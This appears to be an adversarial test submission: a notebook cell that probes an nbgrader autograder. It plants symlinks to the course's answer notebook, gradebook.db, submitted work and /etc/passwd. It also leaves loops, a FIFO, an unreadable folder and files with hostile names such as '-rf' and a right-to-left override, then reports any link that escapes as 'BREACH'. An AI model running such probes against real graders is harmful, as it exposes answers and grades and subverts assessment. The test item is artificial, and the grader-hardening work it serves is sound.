# tries: leaves links, pipes, closed folders and odd names in its folder for whoever cleans up or collects
# base: birch
# may score: 22
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import contextlib

targets = [os.path.join(root, *parts) for root in course_roots() for parts in (("source", "softmax", "softmax.ipynb"), ("gradebook.db",), ("submitted",))]
for number, target in enumerate([*targets, "/etc/passwd", "/dev/zero", "loop"]):
    with contextlib.suppress(OSError):
        os.symlink(target, f"link-{number}.txt")
with contextlib.suppress(OSError):
    os.symlink("loop", "loop")
with contextlib.suppress(OSError):
    os.symlink("..", "up")
with contextlib.suppress(OSError):
    os.mkfifo("pipe.ipynb")
for name in (b"\xff\xfe", "\u202egnp.txt".encode(), b"-rf", b"line\nbreak", b" ", b"x" * 255):
    with contextlib.suppress(OSError):
        open(name, "w").close()
with contextlib.suppress(OSError):
    os.mkdir("closed")
    open("closed/file", "w").close()
    os.chmod("closed", 0)
for number in range(len(targets)):
    with contextlib.suppress(OSError):
        open(f"link-{number}.txt").read(1)
        print("BREACH a link led out:", targets[number])
